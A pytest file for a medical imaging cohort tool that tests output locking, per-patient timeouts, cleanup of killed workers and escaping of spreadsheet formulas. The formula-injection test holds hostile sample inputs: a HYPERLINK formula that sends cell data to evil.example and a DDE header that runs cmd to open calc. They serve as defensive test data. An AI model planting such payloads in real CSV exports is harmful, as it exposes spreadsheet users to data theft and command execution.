"""Batch safety: one run per output table, a time limit per patient, workers that end with a killed run, and
no spreadsheet formulas in the tables."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from test_cohort import write_manifest, write_patient

from TTVPrognosisLib.cli import main
from TTVPrognosisLib.cohort.lock import lock_path
from TTVPrognosisLib.cohort.runner import run_cohort
from TTVPrognosisLib.cohort.tables import read_csv
from TTVPrognosisLib.formats.csv_safety import FORMULA_STARTS, NUMBER_OR_NUMBER_LIST
from TTVPrognosisLib.formats.io import read_segmentation

HERE = Path(__file__).resolve().parent
HANG_MARK = "HANG"


def hang_on_marked_patients(path):
    """Reader whose work never ends for patients named HANG...: it notes its process id, then sleeps (as a read
    from a pipe or a hung network share would block)."""
    if Path(path).name.startswith(HANG_MARK):
        (Path(path).parent / f"{Path(path).name}.pid").write_text(str(os.getpid()))
        time.sleep(600)
    return read_segmentation(path)


def small_cohort(folder: Path, names: list[str]) -> Path:
    rows = []
    for index, name in enumerate(names):
        paths = write_patient(folder, name, index, followup=False)
        rows.append({"patient_id": name, "baseline_segmentation": paths["baseline_segmentation"].name})
    return write_manifest(folder / "m.csv", rows)


def process_gone(pid: int) -> bool:
    """Ended (a zombie waiting to be reaped by an init that does not reap counts as ended)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return True
    except OSError:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        return False
    return state in ("Z", "X")


def wait_for(condition, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


def script_environment() -> dict:
    return {**os.environ, "PYTHONPATH": os.pathsep.join([str(HERE), str(HERE.parent),
                                                        os.environ.get("PYTHONPATH", "")])}


# --- one run per output table -----------------------------------------------------------------------------

HANGING_RUN = textwrap.dedent("""
    import sys
    from test_batch_safety import hang_on_marked_patients
    from TTVPrognosisLib.cohort.runner import run_cohort

    run_cohort(sys.argv[1], sys.argv[2], workers=int(sys.argv[3]), read_segmentation=hang_on_marked_patients,
               register=False)
""")


def test_a_second_run_on_the_same_table_is_refused_and_a_dead_runs_lock_does_not_block(tmp_path, capsys):
    manifest = small_cohort(tmp_path, ["A", "HANG1", "B"])
    output = tmp_path / "results.csv"
    first = subprocess.Popen([sys.executable, "-c", HANGING_RUN, str(manifest), str(output), "1"],
                             env=script_environment())
    try:
        assert wait_for(lambda: (tmp_path / "HANG1_baseline.seg.nrrd.pid").exists(), 60), "first run did not start"
        assert lock_path(output).exists()
        before = output.read_bytes()
        other = tmp_path / "other.csv"
        manifest_b = write_manifest(tmp_path / "m2.csv", [{"patient_id": "Z", "baseline_segmentation":
                                                           "A_baseline.seg.nrrd"}])
        assert main(["batch", str(manifest_b), "--output", str(output), "--overwrite", "--workers", "1"]) == 1
        message = capsys.readouterr().err
        assert "Another batch run" in message and f"process {first.pid}" in message and "--output" in message
        assert output.read_bytes() == before  # the running batch's table is untouched
        assert main(["batch", str(manifest_b), "--output", str(other), "--workers", "1"]) == 0  # another table
        first.send_signal(signal.SIGKILL)
        first.wait(timeout=10)
    finally:
        if first.poll() is None:
            first.kill()
    assert lock_path(output).exists()  # left by the killed run: the system released its lock
    assert main(["batch", str(manifest_b), "--output", str(output), "--overwrite", "--workers", "1",
                 "--patient-timeout", "0"]) == 0
    assert [row["patient_id"] for row in read_csv(output)[1]] == ["Z"]
    assert not lock_path(output).exists()  # a finished run removes its lock file


def test_the_lesion_table_is_locked_too(tmp_path, capsys):
    from TTVPrognosisLib.cohort.lock import locked_outputs

    manifest = small_cohort(tmp_path, ["A"])
    with locked_outputs([tmp_path / "lesions.csv"]):
        code = main(["batch", str(manifest), "--output", str(tmp_path / "r.csv"), "--lesions-output",
                     str(tmp_path / "lesions.csv"), "--workers", "1"])
    assert code == 1 and "lesions.csv" in capsys.readouterr().err
    assert not (tmp_path / "r.csv").exists()


# --- a time limit per patient -----------------------------------------------------------------------------

@pytest.mark.parametrize("workers", [2, 1])
def test_a_patient_over_the_time_limit_fails_alone_and_its_worker_is_replaced(tmp_path, workers):
    manifest = small_cohort(tmp_path, ["A", "HANG1", "B", "C"])
    started = time.monotonic()
    result = run_cohort(manifest, tmp_path / "r.csv", workers=workers, read_segmentation=hang_on_marked_patients,
                        register=False, patient_timeout=2)
    elapsed = time.monotonic() - started
    statuses = {row["patient_id"]: row["status"] for row in result.rows}
    assert statuses == {"A": "ok", "HANG1": "failed", "B": "ok", "C": "ok"}
    assert "time limit of 2 s" in dict(result.failures)["HANG1"]
    assert elapsed < 40, elapsed
    pid = int((tmp_path / "HANG1_baseline.seg.nrrd.pid").read_text())
    assert wait_for(lambda: process_gone(pid), 5), "the stopped worker is still running"


def test_patient_timeout_option(tmp_path, capsys):
    manifest = small_cohort(tmp_path, ["A"])
    with pytest.raises(SystemExit) as stop:
        main(["batch", str(manifest), "--output", str(tmp_path / "r.csv"), "--patient-timeout", "-5"])
    assert stop.value.code == 2 and "seconds" in capsys.readouterr().err
    assert main(["batch", str(manifest), "--output", str(tmp_path / "r.csv"), "--patient-timeout", "0",
                 "--workers", "1"]) == 0


# --- workers end with a killed run ------------------------------------------------------------------------

def test_kill_9_of_a_batch_leaves_no_worker(tmp_path):
    manifest = small_cohort(tmp_path, ["HANG1", "HANG2", "HANG3"])
    run = subprocess.Popen([sys.executable, "-c", HANGING_RUN, str(manifest), str(tmp_path / "r.csv"), "2"],
                           env=script_environment())
    try:
        pid_files = [tmp_path / f"HANG{number}_baseline.seg.nrrd.pid" for number in (1, 2)]
        assert wait_for(lambda: all(path.exists() for path in pid_files), 60), "workers did not start"
        workers = [int(path.read_text()) for path in pid_files]
        assert all(not process_gone(pid) for pid in workers)
        run.send_signal(signal.SIGKILL)
        run.wait(timeout=10)
    finally:
        if run.poll() is None:
            run.kill()
    try:
        assert wait_for(lambda: all(process_gone(pid) for pid in workers), 5), "a worker outlived its batch"
    finally:
        for pid in workers:  # never leave one behind, even when the test fails
            if not process_gone(pid):
                os.kill(pid, signal.SIGKILL)


WATCHED_CHILD = textwrap.dedent("""
    import multiprocessing, os, sys, time
    from TTVPrognosisLib.cohort import worker_guard

    def child(parent, pid_file):
        worker_guard._die_with_parent_linux = lambda: None  # only the portable watchdog
        worker_guard.guard_worker(parent)
        open(pid_file, "w").write(str(os.getpid()))
        time.sleep(600)

    if __name__ == "__main__":
        process = multiprocessing.Process(target=child, args=(os.getpid(), sys.argv[1]))
        process.start()
        process.join()
""")


def test_the_watchdog_alone_ends_a_worker_whose_parent_was_killed(tmp_path):
    script, pid_file = tmp_path / "watched.py", tmp_path / "child.pid"
    script.write_text(WATCHED_CHILD)
    parent = subprocess.Popen([sys.executable, str(script), str(pid_file)], env=script_environment())
    try:
        assert wait_for(pid_file.exists, 60) and wait_for(lambda: pid_file.read_text().strip() != "", 5)
        child = int(pid_file.read_text())
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=10)
    finally:
        if parent.poll() is None:
            parent.kill()
    try:
        assert wait_for(lambda: process_gone(child), 5), "the watchdog did not end the orphaned worker"
    finally:
        if not process_gone(child):
            os.kill(child, signal.SIGKILL)


# --- spreadsheet formula injection ------------------------------------------------------------------------

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "@SUM(A1)", "-2+3", "=1+1", "＝1+1"]


def test_no_cell_of_the_tables_starts_a_formula_and_numbers_stay_numbers(tmp_path):
    rows = []
    for index, patient_id in enumerate(HOSTILE_IDS):
        paths = write_patient(tmp_path, f"P{index}", index, followup=False)
        rows.append({"patient_id": patient_id, "baseline_segmentation": paths["baseline_segmentation"].name,
                     "=cmd|' /C calc'!A0": "-2+3", "age": "-22.5", "weight": "+70", "note": "@note\tx",
                     "ratio": "1e-3"})
    rows.append({"patient_id": "-missing", "baseline_segmentation": "-missing.seg.nrrd", "=cmd|' /C calc'!A0": "x",
                 "age": "-1", "weight": "", "note": "", "ratio": ""})
    manifest = write_manifest(tmp_path / "m.csv", rows)
    output, lesions = tmp_path / "r.csv", tmp_path / "l.csv"
    result = run_cohort(manifest, output, lesions, workers=1, register=False)
    assert result.succeeded == len(HOSTILE_IDS) and result.failed == 1

    for table in (output, lesions):
        with open(table, newline="", encoding="utf-8") as handle:
            cells = [cell for record in csv.reader(handle) for cell in record]
        dangerous = [cell for cell in cells if cell[:1] in FORMULA_STARTS and not NUMBER_OR_NUMBER_LIST.match(cell)]
        assert not dangerous, dangerous
        assert any(cell.startswith("'=HYPERLINK") for cell in cells) or table == lesions
    with open(output, newline="", encoding="utf-8") as handle:
        raw = list(csv.DictReader(handle))
    assert [row["age"] for row in raw] == ["-22.5"] * len(HOSTILE_IDS) + ["-1"]  # numbers unchanged
    assert raw[0]["weight"] == "+70" and raw[0]["ratio"] == "1e-3"
    assert [row["patient_id"] for row in raw] == ["'" + text for text in [*HOSTILE_IDS, "-missing"]]
    assert float(raw[0]["baseline_ttv_ml"]) > 0
    with open(lesions, newline="", encoding="utf-8") as handle:
        first_lesion = next(csv.DictReader(handle))
    for axis in ("r", "a", "s"):
        centroid = first_lesion[f"centroid_{axis}_mm"]
        assert NUMBER_OR_NUMBER_LIST.match(centroid) and not centroid.startswith("'")

    # Read back by the tool (resume), the ids are the manifest's own: nothing is computed again.
    again = run_cohort(manifest, output, lesions, workers=1, register=False, resume=True)
    assert again.computed == 0 and [row["patient_id"] for row in again.rows] == [*HOSTILE_IDS, "-missing"]


def test_a_time_limit_with_nothing_left_to_compute(tmp_path):
    manifest = small_cohort(tmp_path, ["A"])
    output = tmp_path / "r.csv"
    assert run_cohort(manifest, output, workers=1, register=False).ok
    again = run_cohort(manifest, output, register=False, resume=True, patient_timeout=5)
    assert again.ok and again.computed == 0 and again.resumed == 1


def test_tables_in_a_folder_not_yet_made_are_locked_too(tmp_path):
    from TTVPrognosisLib.cohort.lock import locked_outputs
    from TTVPrognosisLib.errors import InputError

    output = tmp_path / "new" / "deeper" / "r.csv"
    with locked_outputs([output]):
        assert lock_path(output).exists()
        with pytest.raises(InputError, match="Another batch run"), locked_outputs([output]):
            pass
    with locked_outputs([output]):  # released: free again
        pass
    assert not lock_path(output).exists()
